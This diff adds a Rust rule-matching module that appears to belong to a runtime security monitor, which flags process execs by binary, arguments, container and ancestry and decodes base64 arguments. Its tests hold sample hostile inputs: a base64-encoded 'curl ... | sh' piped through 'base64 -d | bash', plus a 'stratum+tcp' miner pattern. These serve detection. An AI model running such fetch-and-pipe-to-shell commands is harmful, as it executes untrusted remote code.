@@ -1,0 +1,582 @@
+//! Rules compiled once: string sets, Aho-Corasick automata and regex sets, evaluated per exec
+//! without allocating (evidence is gathered in a second pass, only for a rule that fired).
+
+use crate::format::{ArgvCond, Cond, Scope, StrDetailed, StrSpec};
+use crate::ExecView;
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use base64::Engine as _;
+use regex::RegexSet;
+use rustc_hash::FxHashSet;
+use ward_event::{ExecEvent, FdKind, Layer};
+
+/// How far `ancestor` looks up the chain.
+pub const MAX_ANCESTORS: usize = 16;
+
+/// A compiled string condition.
+#[derive(Debug, Default)]
+pub struct StrMatcher {
+    exact: FxHashSet<Box<str>>,
+    prefix: Vec<Box<str>>,
+    suffix: Vec<Box<str>>,
+    contains: Option<AhoCorasick>,
+    regex: Option<RegexSet>,
+    ignore_case: bool,
+}
+
+/// Why a pattern did not compile (the caller adds file and line).
+#[derive(Debug, thiserror::Error)]
+pub enum PatternError {
+    #[error("invalid regex: {0}")]
+    Regex(#[from] regex::Error),
+    #[error("invalid string set: {0}")]
+    AhoCorasick(#[from] aho_corasick::BuildError),
+    #[error("empty condition: {0} lists nothing to match")]
+    Empty(&'static str),
+    #[error("{0}")]
+    Invalid(String),
+}
+
+impl StrMatcher {
+    pub fn compile(spec: &StrSpec, what: &'static str) -> Result<StrMatcher, PatternError> {
+        let d = match spec {
+            StrSpec::One(s) => StrDetailed {
+                equals: vec![s.clone()],
+                ..StrDetailed::default()
+            },
+            StrSpec::List(v) => StrDetailed {
+                equals: v.clone(),
+                ..StrDetailed::default()
+            },
+            StrSpec::Detailed(d) => StrDetailed {
+                equals: d.equals.clone(),
+                prefix: d.prefix.clone(),
+                suffix: d.suffix.clone(),
+                contains: d.contains.clone(),
+                regex: d.regex.clone(),
+                ignore_case: d.ignore_case,
+            },
+        };
+        if d.equals.is_empty()
+            && d.prefix.is_empty()
+            && d.suffix.is_empty()
+            && d.contains.is_empty()
+            && d.regex.is_empty()
+        {
+            return Err(PatternError::Empty(what));
+        }
+        let fold = |v: &[String]| -> Vec<Box<str>> {
+            v.iter()
+                .map(|s| {
+                    if d.ignore_case {
+                        s.to_ascii_lowercase().into()
+                    } else {
+                        s.as_str().into()
+                    }
+                })
+                .collect()
+        };
+        let contains = if d.contains.is_empty() {
+            None
+        } else {
+            Some(
+                AhoCorasickBuilder::new()
+                    .ascii_case_insensitive(d.ignore_case)
+                    .match_kind(MatchKind::LeftmostFirst)
+                    .build(&d.contains)?,
+            )
+        };
+        let regex = if d.regex.is_empty() {
+            None
+        } else {
+            Some(RegexSet::new(&d.regex)?)
+        };
+        Ok(StrMatcher {
+            exact: fold(&d.equals).into_iter().collect(),
+            prefix: fold(&d.prefix),
+            suffix: fold(&d.suffix),
+            contains,
+            regex,
+            ignore_case: d.ignore_case,
+        })
+    }
+
+    pub fn is_match(&self, s: &str) -> bool {
+        if self.ignore_case {
+            // Exact, prefix and suffix compare ASCII case-insensitively without a copy.
+            if self.exact.iter().any(|e| e.eq_ignore_ascii_case(s))
+                || self.prefix.iter().any(|p| {
+                    s.len() >= p.len() && s.as_bytes()[..p.len()].eq_ignore_ascii_case(p.as_bytes())
+                })
+                || self.suffix.iter().any(|p| {
+                    s.len() >= p.len()
+                        && s.as_bytes()[s.len() - p.len()..].eq_ignore_ascii_case(p.as_bytes())
+                })
+            {
+                return true;
+            }
+        } else if self.exact.contains(s)
+            || self.prefix.iter().any(|p| s.starts_with(&**p))
+            || self.suffix.iter().any(|p| s.ends_with(&**p))
+        {
+            return true;
+        }
+        self.contains.as_ref().is_some_and(|a| a.is_match(s))
+            || self.regex.as_ref().is_some_and(|r| r.is_match(s))
+    }
+
+    /// The exact strings, when the condition is nothing else (used to index rules by name).
+    pub fn exact_only(&self) -> Option<impl Iterator<Item = &str>> {
+        (!self.ignore_case
+            && self.prefix.is_empty()
+            && self.suffix.is_empty()
+            && self.contains.is_none()
+            && self.regex.is_none())
+        .then(|| self.exact.iter().map(|s| &**s))
+    }
+}
+
+#[derive(Debug, Default)]
+pub struct ArgvMatcher {
+    any: Option<StrMatcher>,
+    none: Option<StrMatcher>,
+    cmdline: Option<StrMatcher>,
+    base64: Option<AhoCorasick>,
+    min_args: Option<usize>,
+}
+
+/// A compiled condition tree.
+#[derive(Debug, Default)]
+pub struct Matcher {
+    scope: Option<Scope>,
+    exe: Option<StrMatcher>,
+    pub(crate) basename: Option<StrMatcher>,
+    layer: Option<Vec<Layer>>,
+    argv: Option<ArgvMatcher>,
+    uid: Option<Vec<u32>>,
+    stdin: Option<Vec<FdKind>>,
+    stdout: Option<Vec<FdKind>>,
+    image: Option<StrMatcher>,
+    namespace: Option<StrMatcher>,
+    labels: Vec<(String, StrMatcher)>,
+    parent: Option<Box<Matcher>>,
+    ancestor: Option<Box<Matcher>>,
+    any: Vec<Matcher>,
+    not: Option<Box<Matcher>>,
+}
+
+/// One condition that held for a rule that fired: which field, and the value it saw.
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Evidence {
+    /// `exe`, `basename`, `argv`, `cmdline`, `argv.base64`, `layer`, `parent.basename`, ...
+    pub field: String,
+    pub value: String,
+}
+
+pub fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+impl Matcher {
+    pub fn compile(c: &Cond) -> Result<Matcher, PatternError> {
+        let s = |spec: &Option<StrSpec>, what| -> Result<Option<StrMatcher>, PatternError> {
+            spec.as_ref()
+                .map(|sp| StrMatcher::compile(sp, what))
+                .transpose()
+        };
+        fn list<T>(v: &Option<Vec<T>>, what: &'static str) -> Result<(), PatternError> {
+            match v {
+                Some(v) if v.is_empty() => Err(PatternError::Empty(what)),
+                _ => Ok(()),
+            }
+        }
+        list(&c.layer, "layer")?;
+        list(&c.uid, "uid")?;
+        list(&c.stdin, "stdin")?;
+        list(&c.stdout, "stdout")?;
+        let argv = c.argv.as_ref().map(compile_argv).transpose()?;
+        let mut labels = Vec::new();
+        for (k, v) in c.labels.iter().flatten() {
+            labels.push((k.clone(), StrMatcher::compile(v, "labels")?));
+        }
+        let sub =
+            |x: &Option<Box<toml::Spanned<Cond>>>| -> Result<Option<Box<Matcher>>, PatternError> {
+                x.as_ref()
+                    .map(|b| Matcher::compile(b.get_ref()).map(Box::new))
+                    .transpose()
+            };
+        let mut any = Vec::new();
+        if let Some(v) = &c.any {
+            if v.is_empty() {
+                return Err(PatternError::Empty("any"));
+            }
+            for a in v {
+                any.push(Matcher::compile(a.get_ref())?);
+            }
+        }
+        let m = Matcher {
+            scope: c.scope,
+            exe: s(&c.exe, "exe")?,
+            basename: s(&c.basename, "basename")?,
+            layer: c.layer.clone(),
+            argv,
+            uid: c.uid.clone(),
+            stdin: c.stdin.clone(),
+            stdout: c.stdout.clone(),
+            image: s(&c.image, "image")?,
+            namespace: s(&c.namespace, "namespace")?,
+            labels,
+            parent: sub(&c.parent)?,
+            ancestor: sub(&c.ancestor)?,
+            any,
+            not: sub(&c.not)?,
+        };
+        if m.is_empty() {
+            return Err(PatternError::Invalid(
+                "a condition table with no condition in it (it would match every exec)".into(),
+            ));
+        }
+        Ok(m)
+    }
+
+    fn is_empty(&self) -> bool {
+        self.scope.is_none()
+            && self.exe.is_none()
+            && self.basename.is_none()
+            && self.layer.is_none()
+            && self.argv.is_none()
+            && self.uid.is_none()
+            && self.stdin.is_none()
+            && self.stdout.is_none()
+            && self.image.is_none()
+            && self.namespace.is_none()
+            && self.labels.is_empty()
+            && self.parent.is_none()
+            && self.ancestor.is_none()
+            && self.any.is_empty()
+            && self.not.is_none()
+    }
+
+    /// Does the exec at `depth` of `view` (0 = the exec itself, 1 = its parent, ...) satisfy
+    /// this? With `ev`, records the conditions that held.
+    pub fn eval(
+        &self,
+        view: &dyn ExecView,
+        depth: usize,
+        ev: &mut Option<&mut Vec<Evidence>>,
+        prefix: &str,
+    ) -> bool {
+        let Some(e) = view.at(depth) else {
+            return false;
+        };
+        let mut note = |field: &str, value: &str| {
+            if let Some(v) = ev.as_deref_mut() {
+                v.push(Evidence {
+                    field: format!("{prefix}{field}"),
+                    value: value.to_string(),
+                });
+            }
+        };
+        if let Some(s) = self.scope {
+            let in_container = e.container_id.is_some();
+            if in_container != (s == Scope::Container) {
+                return false;
+            }
+        }
+        if let Some(b) = &self.basename {
+            let (f, r) = (basename(&e.filename), basename(&e.binary.path));
+            if b.is_match(f) {
+                note("basename", f);
+            } else if b.is_match(r) {
+                note("basename", r);
+            } else {
+                return false;
+            }
+        }
+        if let Some(x) = &self.exe {
+            if !x.is_match(&e.binary.path) {
+                return false;
+            }
+            note("exe", &e.binary.path);
+        }
+        if let Some(l) = &self.layer {
+            if !l.contains(&e.binary.layer) {
+                return false;
+            }
+            note("layer", e.binary.layer.as_str());
+        }
+        if let Some(u) = &self.uid {
+            if !u.contains(&e.uid) {
+                return false;
+            }
+        }
+        if let Some(k) = &self.stdin {
+            if !k.contains(&e.stdio[0].kind) {
+                return false;
+            }
+        }
+        if let Some(k) = &self.stdout {
+            if !k.contains(&e.stdio[1].kind) {
+                return false;
+            }
+        }
+        let meta = e.container.as_ref();
+        if let Some(m) = &self.image {
+            match meta.map(|m| m.image.as_str()).filter(|i| m.is_match(i)) {
+                Some(i) => note("image", i),
+                None => return false,
+            }
+        }
+        if let Some(m) = &self.namespace {
+            match meta
+                .and_then(|m| m.pod.as_ref())
+                .map(|p| p.namespace.as_str())
+                .filter(|n| m.is_match(n))
+            {
+                Some(n) => note("namespace", n),
+                None => return false,
+            }
+        }
+        for (k, m) in &self.labels {
+            let v = meta.and_then(|c| {
+                c.labels
+                    .get(k)
+                    .or_else(|| c.pod.as_ref().and_then(|p| p.labels.get(k)))
+            });
+            if !v.is_some_and(|v| m.is_match(v)) {
+                return false;
+            }
+        }
+        if let Some(a) = &self.argv {
+            if !eval_argv(a, e, &mut note) {
+                return false;
+            }
+        }
+        if let Some(p) = &self.parent {
+            let pre = format!("{prefix}parent.");
+            if !p.eval_sub(view, depth + 1, ev, &pre) {
+                return false;
+            }
+        }
+        if let Some(a) = &self.ancestor {
+            let found = (depth + 1..=depth + MAX_ANCESTORS)
+                .take_while(|d| view.at(*d).is_some())
+                .find(|d| a.eval(view, *d, &mut None, ""));
+            match found {
+                Some(d) => {
+                    if ev.is_some() {
+                        let pre = format!("{prefix}ancestor[{}].", d - depth);
+                        a.eval(view, d, ev, &pre);
+                    }
+                }
+                None => return false,
+            }
+        }
+        if !self.any.is_empty() {
+            match self.any.iter().find(|m| m.eval(view, depth, &mut None, "")) {
+                Some(m) => {
+                    if ev.is_some() {
+                        m.eval(view, depth, ev, prefix);
+                    }
+                }
+                None => return false,
+            }
+        }
+        if let Some(n) = &self.not {
+            if n.eval(view, depth, &mut None, "") {
+                return false;
+            }
+        }
+        true
+    }
+
+    fn eval_sub(
+        &self,
+        view: &dyn ExecView,
+        depth: usize,
+        ev: &mut Option<&mut Vec<Evidence>>,
+        prefix: &str,
+    ) -> bool {
+        self.eval(view, depth, ev, prefix)
+    }
+}
+
+fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
+    let base64 = match &a.base64_contains {
+        Some(v) if v.is_empty() => return Err(PatternError::Empty("argv.base64_contains")),
+        Some(v) => Some(AhoCorasick::new(v)?),
+        None => None,
+    };
+    let m = ArgvMatcher {
+        any: a
+            .any
+            .as_ref()
+            .map(|s| StrMatcher::compile(s, "argv.any"))
+            .transpose()?,
+        none: a
+            .none
+            .as_ref()
+            .map(|s| StrMatcher::compile(s, "argv.none"))
+            .transpose()?,
+        cmdline: a
+            .cmdline
+            .as_ref()
+            .map(|s| StrMatcher::compile(s, "argv.cmdline"))
+            .transpose()?,
+        base64,
+        min_args: a.min_args,
+    };
+    if m.any.is_none()
+        && m.none.is_none()
+        && m.cmdline.is_none()
+        && m.base64.is_none()
+        && m.min_args.is_none()
+    {
+        return Err(PatternError::Empty("argv"));
+    }
+    Ok(m)
+}
+
+fn eval_argv(a: &ArgvMatcher, e: &ExecEvent, note: &mut dyn FnMut(&str, &str)) -> bool {
+    let args = e.argv.get(1..).unwrap_or(&[]);
+    if let Some(n) = a.min_args {
+        if args.len() < n {
+            return false;
+        }
+    }
+    if let Some(m) = &a.any {
+        match args.iter().find(|x| m.is_match(x)) {
+            Some(x) => note("argv", x),
+            None => return false,
+        }
+    }
+    if let Some(m) = &a.none {
+        if args.iter().any(|x| m.is_match(x)) {
+            return false;
+        }
+    }
+    if let Some(m) = &a.cmdline {
+        // Joined into a per-thread buffer: no allocation once it has grown.
+        let held = CMDLINE.with(|b| {
+            let mut line = b.borrow_mut();
+            line.clear();
+            for (i, x) in e.argv.iter().enumerate() {
+                if i > 0 {
+                    line.push(' ');
+                }
+                line.push_str(x);
+            }
+            let held = m.is_match(&line);
+            if held {
+                note("cmdline", &line);
+            }
+            held
+        });
+        if !held {
+            return false;
+        }
+    }
+    if let Some(ac) = &a.base64 {
+        match args.iter().find_map(|x| base64_hit(ac, x)) {
+            Some(decoded) => note("argv.base64", &decoded),
+            None => return false,
+        }
+    }
+    true
+}
+
+/// Shortest base64 run considered (12 bytes decoded): shorter runs are ordinary words.
+const MIN_B64_RUN: usize = 16;
+
+thread_local! {
+    static CMDLINE: std::cell::RefCell<String> = const { std::cell::RefCell::new(String::new()) };
+    static DECODED: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
+}
+
+/// Decodes each base64 run in `arg` and returns the first decoded text holding a needle.
+/// A run must be at least [`MIN_B64_RUN`] characters with both upper- and lower-case letters
+/// (base64 of 12 or more bytes of text nearly always has both; paths and words do not), and
+/// decodes into a per-thread buffer; only a hit allocates.
+fn base64_hit(ac: &AhoCorasick, arg: &str) -> Option<String> {
+    let b = arg.as_bytes();
+    let is_b64 = |c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/' || c == b'=';
+    let mut i = 0;
+    while i < b.len() {
+        if !is_b64(b[i]) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        let (mut upper, mut lower) = (false, false);
+        while i < b.len() && is_b64(b[i]) {
+            upper |= b[i].is_ascii_uppercase();
+            lower |= b[i].is_ascii_lowercase();
+            i += 1;
+        }
+        if i - start < MIN_B64_RUN || !(upper && lower) {
+            continue;
+        }
+        let run = arg[start..i].trim_end_matches('=');
+        // A run may start mid-token (`x=Y3Vy...`): try the whole run, then its tail cut to a
+        // multiple of 4 from the end.
+        for candidate in [run, &run[run.len() % 4..]] {
+            let hit = DECODED.with(|buf| {
+                let mut buf = buf.borrow_mut();
+                buf.clear();
+                let engine = base64::engine::general_purpose::STANDARD_NO_PAD;
+                if engine.decode_vec(candidate, &mut buf).is_ok() && ac.is_match(&buf[..]) {
+                    Some(String::from_utf8_lossy(&buf).into_owned())
+                } else {
+                    None
+                }
+            });
+            if hit.is_some() {
+                return hit;
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ac(needles: &[&str]) -> AhoCorasick {
+        AhoCorasick::new(needles).unwrap()
+    }
+
+    #[test]
+    fn base64_runs_are_decoded_inside_arguments() {
+        // "curl http://x/y | sh" in base64, inside a longer argument.
+        let enc = base64::engine::general_purpose::STANDARD.encode("curl http://x/y | sh");
+        let arg = format!("echo {enc} | base64 -d | bash");
+        assert!(base64_hit(&ac(&["curl"]), &arg)
+            .unwrap()
+            .contains("curl http://x/y"));
+        assert!(base64_hit(&ac(&["wget"]), &arg).is_none());
+        // Ordinary words and short runs are not decoded.
+        assert!(base64_hit(&ac(&["a"]), "--output=/tmp/file").is_none());
+    }
+
+    #[test]
+    fn string_matchers() {
+        let spec: StrSpec = toml::from_str::<toml::Table>(
+            "x = { prefix = [\"/tmp/\"], contains = [\"stratum+tcp\"], ignore_case = true }",
+        )
+        .unwrap()["x"]
+            .clone()
+            .try_into()
+            .unwrap();
+        let m = StrMatcher::compile(&spec, "t").unwrap();
+        assert!(m.is_match("/TMP/x"));
+        assert!(m.is_match("-o STRATUM+TCP://pool:3333"));
+        assert!(!m.is_match("/usr/bin/x"));
+        assert!(m.exact_only().is_none());
+        let list = StrSpec::List(vec!["sh".into(), "bash".into()]);
+        let m = StrMatcher::compile(&list, "t").unwrap();
+        assert!(m.is_match("sh") && !m.is_match("shx"));
+        assert_eq!(m.exact_only().unwrap().count(), 2);
+        assert!(StrMatcher::compile(&StrSpec::List(vec![]), "basename").is_err());
+    }
+}
